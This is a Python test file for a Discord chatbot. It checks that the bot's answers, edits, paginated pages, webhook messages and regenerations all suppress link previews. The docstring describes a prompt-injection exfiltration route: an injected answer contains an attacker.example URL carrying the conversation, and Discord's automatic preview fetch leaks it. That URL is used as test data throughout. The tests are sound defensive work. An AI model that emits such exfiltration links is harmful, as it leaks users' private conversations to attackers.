"""Links in the bot's answers get no preview on Discord (the real discord.py client in this
process, on the loopback Discord): Discord fetches every link of a message the moment it
is posted or edited, so an answer a prompt injection wrote as
https://attacker.example/?q=<the conversation> handed the conversation to that site with
no click. Every message showing an answer goes out with SUPPRESS_EMBEDS and keeps it
through each edit: in a plain channel, through a character's webhook, on a long answer's
pages and its file, after 🔄 and a typed /regenerate, and in a /regenerate's reply."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from bot.commands import Invocation
from bot.core import Core
from bot.frontends.discord.sink import FILE_ATTACHED, MAX_MESSAGES
from bot.types import Actor, Attachment, ChannelRef, Platform
from tests.discord.fake_discord import SUPPRESS_EMBEDS, FakeDiscord
from tests.discord.fake_openai import FakeOpenAI
from tests.discord.helpers import running
from tests.integration.test_characters import CARD
from tests.unit.characters.samples import png_with

TOKEN = "loopback.bot.token-links-0123456789"
ADMIN = Actor("300000000000000002", "Ada", is_channel_admin=True, is_server_admin=True)
LEAK = "https://attacker.example/?q=hello+captain"


@pytest.fixture
async def fake() -> AsyncIterator[FakeDiscord]:
    fake = FakeDiscord(TOKEN)
    await fake.start()
    try:
        yield fake
    finally:
        await fake.stop()


async def _asked(fake: FakeDiscord, endpoint: FakeOpenAI) -> dict[str, Any]:
    """A question whose answer streams `_streamed()`: the message showing it, settled."""
    endpoint.script.chunks = _streamed()
    endpoint.script.interval = 0.02
    await fake.user_says(f"<@{fake.bot_id}> hello captain")
    return await _answered(fake, endpoint.script.answer.strip())


def _streamed(link: str = LEAK, words: int = 20) -> list[str]:
    """An answer with `link` in its first chunk, streamed slowly enough to be edited."""
    return [f"Read {link} now. ", *(f"w{i} " for i in range(words))]


def _regen_id(message: dict[str, Any]) -> str | None:
    for row in message.get("components", []):
        for button in row.get("components", []):
            if str(button.get("custom_id", "")).startswith("cc:regen:"):
                return str(button["custom_id"])
    return None


def _suppressed(message: dict[str, Any]) -> bool:
    return bool(int(message["flags"]) & SUPPRESS_EMBEDS)


def _edits(fake: FakeDiscord, message: dict[str, Any]) -> int:
    return len([c for c in fake.calls if c.method == "PATCH" and c.path.endswith(message["id"])])


async def _answered(fake: FakeDiscord, content: str) -> dict[str, Any]:
    """The message that shows `content` once its answer settled (its 🔄 on it)."""

    def shown() -> dict[str, Any] | None:
        return next(
            (m for m in fake.messages.values() if m["content"] == content and _regen_id(m)),
            None,
        )

    await fake.wait_until(lambda: shown() is not None, 30)
    found = shown()
    assert found is not None
    return found


async def test_an_answer_and_its_edits_show_no_link_preview(
    core: Core, endpoint: FakeOpenAI, fake: FakeDiscord
) -> None:
    async with running(core, fake):
        answer = await _asked(fake, endpoint)
    assert _edits(fake, answer) >= 2  # streamed: posted, then edited
    assert _suppressed(answer)
    assert fake.unfurled == []


async def test_a_long_answers_pages_and_file_show_no_link_preview(
    core: Core, endpoint: FakeOpenAI, fake: FakeDiscord
) -> None:
    endpoint.script.chunks = [f"Line {i}: see {LEAK}&line={i}\n" for i in range(250)]
    async with running(core, fake):
        await fake.user_says(f"<@{fake.bot_id}> tell me everything")
        await fake.wait_until(
            lambda: any(m["attachments"] and _regen_id(m) for m in fake.messages.values()),
            30,
        )
        await _tied(core, fake, list(fake.messages.values()))
    pages = list(fake.messages.values())
    assert [bool(page["components"]) for page in pages] == [False] * (MAX_MESSAGES - 1) + [True]
    assert len(pages) == MAX_MESSAGES and pages[-1]["content"].endswith(FILE_ATTACHED)
    assert all(_suppressed(page) for page in pages)
    assert fake.unfurled == []


async def test_a_characters_answer_and_its_regeneration_show_no_link_preview(
    core: Core, endpoint: FakeOpenAI
) -> None:
    fake = FakeDiscord(TOKEN, manage_webhooks=True)
    await fake.start()
    try:
        await _import_character(core, fake)
        async with running(core, fake):
            answer = await _asked(fake, endpoint)
            assert answer.get("webhook_id") and _edits(fake, answer) >= 2
            assert _suppressed(answer) and fake.unfurled == []

            # 🔄 on it: the new answer streams into it through the webhook's edits.
            endpoint.script.chunks = _streamed(f"{LEAK}&again=1")
            regen = _regen_id(answer)
            assert regen is not None
            await fake.click(int(answer["id"]), regen)
            await fake.wait_until(lambda: "2/2" in json.dumps(answer["components"]), 30)
    finally:
        await fake.stop()
    assert answer["content"] == endpoint.script.answer.strip()
    assert _suppressed(answer)
    assert fake.unfurled == []


async def test_a_typed_regenerate_shows_no_link_preview_in_place_or_in_its_reply(
    core: Core, endpoint: FakeOpenAI, fake: FakeDiscord
) -> None:
    async with running(core, fake):
        answer = await _asked(fake, endpoint)
        await _tied(core, fake, [answer])

        # In place: the answer's own message is edited, as 🔄 does.
        endpoint.script.chunks = _streamed(f"{LEAK}&again=1")
        await fake.slash("regenerate")
        await fake.wait_until(lambda: "2/2" in json.dumps(answer["components"]), 30)
        assert answer["content"] == endpoint.script.answer.strip()
        assert _suppressed(answer) and fake.unfurled == []

        # Its message gone unseen (deleted while the bot was away): the new answer
        # is the command's reply.
        del fake.messages[int(answer["id"])]
        endpoint.script.chunks = _streamed(f"{LEAK}&again=2")
        await fake.slash("regenerate")
        await fake.wait_until(
            lambda: any(LEAK + "&again=2" in text for text in fake.originals.values()), 30
        )
    [(iid, said)] = [(i, t) for i, t in fake.originals.items() if LEAK in t]
    assert said.startswith(endpoint.script.answer.strip())
    assert fake.original_flags[iid] & SUPPRESS_EMBEDS
    assert fake.unfurled == []


async def _tied(core: Core, fake: FakeDiscord, messages: list[dict[str, Any]]) -> None:
    """Wait until the store knows `messages` show the newest answer, its turn done (a
    typed control finds them so, and changes them in place)."""
    ref = ChannelRef(Platform.DISCORD, str(fake.channel_id), str(fake.guild_id))
    for _ in range(500):
        found = await core.newest_answer_posts(ref)
        if found is not None and found[1] == [m["id"] for m in messages]:
            return
        await asyncio.sleep(0.02)
    raise AssertionError("the answer was never tied to its message")


async def _import_character(core: Core, fake: FakeDiscord) -> None:
    """A character in #general: its answers go through the channel's webhook."""
    image = png_with({"ccv3": base64.b64encode(json.dumps(CARD).encode()).decode()})

    async def fetch(limit: int) -> bytes:
        return image

    ref = ChannelRef(Platform.DISCORD, str(fake.channel_id), str(fake.guild_id))
    file = Attachment("aurelia.png", "image/png", len(image), fetch)
    reply = await core.run_command(ref, ADMIN, Invocation(("character", "import"), {"file": file}))
    assert reply.ok, reply.text
